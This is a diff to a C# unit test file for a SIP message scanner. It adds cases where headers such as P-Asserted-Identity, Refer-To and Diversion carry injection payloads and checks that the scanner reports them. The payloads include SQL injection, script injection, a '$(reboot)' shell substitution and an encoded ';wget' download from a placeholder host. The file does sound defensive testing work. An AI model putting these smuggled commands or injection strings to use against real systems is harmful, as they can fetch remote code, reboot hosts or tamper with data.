@@ -90,6 +90,23 @@ public sealed class InjectionTests
     public void Other_credentials_are_silent(string line) => Assert.Empty(new MandatoryTester().See(Messages.Invite.And(line)));
 
     [Theory]
+    [InlineData("P-Asserted-Identity: \"' or 1=1--\" <sip:a@example.com>")]
+    [InlineData("P-Asserted-Identity: <sip:a@example.com>, \"' or 1=1--\" <tel:+1234>")]
+    [InlineData("P-Preferred-Identity: <sip:%27%20or%201=1--@example.com>")]
+    [InlineData("Refer-To: <sip:1%3Bwget%20http://192.0.2.66/x@example.com>")]
+    [InlineData("r: <sip:a@example.com>\nb: \"<script>alert(1)</script>\" <sip:a@example.com>")]
+    [InlineData("Diversion: \"$(reboot)\" <sip:a@example.com>;reason=unconditional")]
+    public void Code_in_who_asserts_refers_or_diverts_is_reported(string lines) =>
+        Assert.Equal("2012/1", Assert.Single(new MandatoryTester().See(Messages.Invite.And(lines))).ToString());
+
+    [Theory]
+    [InlineData("P-Asserted-Identity: \"O'Brien & Sons\" <sip:+15551234@example.com;user=phone>, <tel:+15551234>")]
+    [InlineData("Refer-To: <sip:bob@example.com?Replaces=a%40b%3Bto-tag%3D1%3Bfrom-tag%3D2>")]
+    [InlineData("Referred-By: <sip:alice@example.com>;cid=\"1.2@example.com\"")]
+    [InlineData("Diversion: <sip:+15551234@example.com>;reason=no-answer;counter=1")]
+    public void An_honest_one_is_silent(string lines) => Assert.Empty(new MandatoryTester().See(Messages.Invite.And(lines)));
+
+    [Theory]
     [InlineData("INVITE", "INVITE sip:' or 1=1--@example.com SIP/2.0")]
     [InlineData("From", "From: <sip:<script>alert(1)</script>@example.com>;tag=1")]
     [InlineData("To", "To: \"x\" <script>alert(1)</script>")]
